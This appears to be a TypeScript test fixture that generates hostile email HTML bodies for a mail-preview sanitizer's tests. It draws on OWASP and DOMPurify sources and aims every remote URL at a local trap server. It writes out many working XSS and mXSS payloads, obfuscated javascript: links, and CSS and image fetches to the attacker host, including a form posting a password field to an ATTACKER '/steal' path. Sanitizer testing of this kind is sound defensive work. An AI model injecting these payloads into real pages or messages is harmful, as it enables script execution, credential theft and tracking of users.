/**
 * Email bodies that try to run script, fetch from another host, leave the preview or submit
 * something. Sources of the variants: the OWASP XSS filter evasion cheat sheet, DOMPurify's
 * test suite and its mXSS write-ups.
 *
 * Every remote address points at `attacker` (an origin such as `http://localhost:PORT`, served
 * by a trap server in the spec), so a request that escapes is counted where it lands instead of
 * only where the browser reports it, and never reaches a real host.
 */
export interface HostileBody {
  name: string;
  html: string;
}

export function hostileBodies(attacker: string): HostileBody[] {
  const ATTACKER = attacker.replace(/\/+$/, '');
  const RELATIVE = ATTACKER.replace(/^https?:/, '');
  return [
    // Script elements, plain and disguised.
    { name: 'script element', html: '<script>alert(1)</script>' },
    { name: 'remote script, upper case', html: `<SCRIPT SRC=${ATTACKER}/x.js></SCRIPT>` },
    { name: 'split script tag', html: '<scr<script>ipt>alert(1)</scr</script>ipt>' },
    { name: 'doubled angle brackets', html: '<<script>script>alert(1)<</script>/script>' },
    { name: 'script after a broken attribute', html: '<img """><script>alert(1)</script>">' },
    { name: 'script in a template', html: '<template><script>alert(1)</script></template>' },
    {
      name: 'noscript attribute breakout (mXSS)',
      html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    },
    {
      name: 'math/table/style namespace confusion (mXSS)',
      html: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    },

    // Inline event handlers.
    { name: 'img onerror', html: '<img src=x onerror=alert(1)>' },
    { name: 'img onerror, mixed case', html: '<img src=1 oNeRrOr=alert(1)>' },
    {
      name: 'img onerror navigating the top page',
      html: `<img src="x:x" onerror="top.location='${ATTACKER}/'">`,
    },
    { name: 'body onload', html: '<body onload=alert(1)>text' },
    { name: 'details ontoggle', html: '<details open ontoggle=alert(1)>x</details>' },
    { name: 'input autofocus onfocus', html: '<input autofocus onfocus=alert(1)>' },
    { name: 'marquee onstart', html: '<marquee onstart=alert(1)>x</marquee>' },
    { name: 'div onmouseover', html: '<div onmouseover="alert(1)">hover me</div>' },
    { name: 'video source onerror', html: '<video><source onerror=alert(1)></video>' },
    { name: 'audio onerror', html: '<audio src=x onerror=alert(1)></audio>' },

    // javascript:, vbscript: and data: URLs, obfuscated.
    { name: 'javascript: link', html: '<a href="javascript:alert(1)">click</a>' },
    { name: 'javascript: link, mixed case', html: '<a href="JaVaScRiPt:alert(1)">click</a>' },
    { name: 'javascript: link, leading space', html: '<a href=" javascript:alert(1)">click</a>' },
    { name: 'javascript: link, tab inside', html: '<a href="java\tscript:alert(1)">click</a>' },
    { name: 'javascript: link, newline inside', html: '<a href="java\nscript:alert(1)">click</a>' },
    {
      name: 'javascript: link, decimal entities',
      html: '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>',
    },
    {
      name: 'javascript: link, padded entities without semicolons',
      html: '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">click</a>',
    },
    {
      name: 'javascript: link, hex and named entities',
      html: '<a href="&#x6A;avascript&colon;alert(1)">click</a>',
    },
    { name: 'javascript: link, one entity', html: '<a href="javas&#99;ript:alert(1)">click</a>' },
    {
      name: 'javascript: link navigating the top page',
      html: `<a href="javascript:top.location='${ATTACKER}'">click</a>`,
    },
    { name: 'vbscript: link', html: '<a href="vbscript:msgbox(1)">click</a>' },
    {
      name: 'data: HTML link',
      html: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    },
    { name: 'javascript: img with tab', html: '<IMG SRC="jav&#x09;ascript:alert(1)">' },
    {
      name: 'data: SVG image with onload',
      html: '<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=">',
    },
    { name: 'data: HTML image', html: '<img src="data:text/html,<script>alert(1)</script>">' },

    // SVG and MathML.
    { name: 'svg onload', html: '<svg onload=alert(1)>' },
    { name: 'script inside svg', html: '<svg><script>alert(1)</script></svg>' },
    {
      name: 'svg link with xlink:href',
      html: '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">x</text></a></svg>',
    },
    {
      name: 'svg animate onbegin',
      html: '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
    },
    { name: 'svg image fetching remotely', html: `<svg><image href="${ATTACKER}/svg.png"/></svg>` },
    { name: 'math href', html: '<math href="javascript:alert(1)">x</math>' },

    // Frames, objects and embeds.
    { name: 'remote iframe', html: `<iframe src="${ATTACKER}/"></iframe>` },
    {
      name: 'iframe srcdoc with script',
      html: '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    },
    {
      name: 'iframe srcdoc, entity-encoded',
      html: '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
    },
    { name: 'frameset', html: '<frameset><frame src="javascript:alert(1)"></frameset>' },
    { name: 'remote object', html: `<object data="${ATTACKER}/x.swf"></object>` },
    {
      name: 'object with data: HTML',
      html: '<object type="text/html" data="data:text/html,<script>alert(1)</script>"></object>',
    },
    { name: 'embed javascript:', html: '<embed src="javascript:alert(1)">' },
    {
      name: 'embed data: SVG',
      html: '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    },

    // Forms, meta refresh, base and links that leave.
    {
      name: 'form posting elsewhere',
      html: `<form action="${ATTACKER}/steal"><input name="pw" value="secret"><button>Go</button></form>`,
    },
    { name: 'button formaction', html: '<button formaction="javascript:alert(1)">x</button>' },
    { name: 'isindex action', html: '<isindex action="javascript:alert(1)" type="image">' },
    {
      name: 'meta refresh elsewhere',
      html: `<meta http-equiv="refresh" content="0;url=${ATTACKER}/">`,
    },
    {
      name: 'meta refresh to javascript:',
      html: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    },
    { name: 'base href', html: `<base href="${ATTACKER}/"><a href="/relative">relative</a>` },
    { name: 'link target _top', html: `<a href="${ATTACKER}/" target="_top">leave</a>` },
    {
      name: 'link with ping and target _blank',
      html: `<a href="${ATTACKER}/" target="_blank" ping="${ATTACKER}/ping">ping</a>`,
    },
    { name: 'link rel=opener', html: `<a href="${ATTACKER}/" rel="opener">opener</a>` },
    { name: 'protocol-relative link', html: `<a href="${RELATIVE}/">relative</a>` },

    // CSS that fetches or runs.
    { name: 'stylesheet link', html: `<link rel="stylesheet" href="${ATTACKER}/x.css">` },
    { name: 'style @import', html: `<style>@import "${ATTACKER}/x.css";</style>` },
    {
      name: 'style element url()',
      html: `<style>body{background:url(${ATTACKER}/bg.png)}</style>`,
    },
    { name: 'inline url()', html: `<p style="background:url(${ATTACKER}/bg.png)">x</p>` },
    {
      name: 'inline URL(), upper case',
      html: `<p style="background:URL(${ATTACKER}/bg.png)">x</p>`,
    },
    {
      name: 'inline url() spelt with a CSS escape',
      html: `<p style="background-image:u\\72l(${ATTACKER}/escaped.png)">x</p>`,
    },
    {
      name: 'inline url() with entity-encoded parentheses',
      html: `<p style="background:url&#40;${ATTACKER}/entity.png&#41;">x</p>`,
    },
    {
      name: 'inline url() split by a comment',
      html: `<p style="background:u/**/rl(${ATTACKER}/c.png)">x</p>`,
    },
    {
      name: 'inline image-set()',
      html: `<p style="background:image-set('${ATTACKER}/s.png' 1x)">x</p>`,
    },
    { name: 'CSS expression()', html: '<div style="width: expression(alert(1))">x</div>' },
    { name: 'CSS behavior', html: '<div style="behavior: url(x.htc)">x</div>' },
    {
      name: 'CSS -moz-binding',
      html: `<div style="-moz-binding:url(${ATTACKER}/x.xml#x)">x</div>`,
    },
    { name: 'unknown element with behavior', html: '<xss style="behavior:url(x.htc)">x</xss>' },

    // Images and attributes that fetch or track.
    {
      name: 'remote tracking pixel',
      html: `<img src="${ATTACKER}/pixel.gif" width="1" height="1">`,
    },
    { name: 'protocol-relative image', html: `<img src="${RELATIVE}/p.png">` },
    { name: 'srcset', html: `<img srcset="${ATTACKER}/a.png 1x">` },
    {
      name: 'picture source',
      html: `<picture><source srcset="${ATTACKER}/p.png"><img alt=""></picture>`,
    },
    {
      name: 'table background attribute',
      html: `<table background="${ATTACKER}/t.png"><tr><td>x</td></tr></table>`,
    },
    { name: 'video poster', html: `<video poster="${ATTACKER}/poster.png"></video>` },
    { name: 'data attribute with a URL', html: '<div data-href="javascript:alert(1)">x</div>' },
  ];
}
